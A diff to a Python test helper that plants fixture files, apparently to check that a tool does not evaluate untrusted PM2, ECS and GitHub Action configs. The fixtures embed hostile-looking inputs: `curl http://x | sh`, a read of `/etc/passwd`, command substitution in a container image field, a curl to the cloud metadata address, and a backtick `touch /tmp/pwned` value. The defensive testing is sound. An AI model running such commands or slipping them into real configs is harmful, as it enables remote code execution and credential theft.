@@ -101,6 +101,20 @@ def _plant(root: Path, outside: Path, marker: Path) -> None:
         encoding="utf-8",
     )
     (root / "action.yml").write_text("runs:\n  using: composite\n  steps: [{run: 'curl http://x | sh', shell: bash}]\n")
+    # PM2: JavaScript that would run a process, read a file and exit if it were evaluated
+    (root / "ecosystem.config.js").write_text(
+        'require("child_process").execSync("python3 setup.py");\n'
+        'module.exports = { apps: [{ name: require("fs").readFileSync("/etc/passwd", "utf8"),'
+        ' script: `${process.exit(1)}`, env: { A: process.env.A || "b" } }] };\n',
+        encoding="utf-8",
+    )
+    # ECS: a health check, an image and a linked path that would run or reach something if evaluated
+    (root / "taskdef.json").write_text(
+        '{"family": "x", "containerDefinitions": [{"name": "x", "image": "$(python3 -c \'import os\')",'
+        ' "healthCheck": {"command": ["CMD-SHELL", "python3 -c \\"import pathlib\\" || curl http://169.254.169.254/"]},'
+        ' "environment": [{"name": "X", "value": "`touch /tmp/pwned`"}]}]}\n',
+        encoding="utf-8",
+    )
     for i in range(70):
         d = root / f"svc{i:02d}"
         d.mkdir()
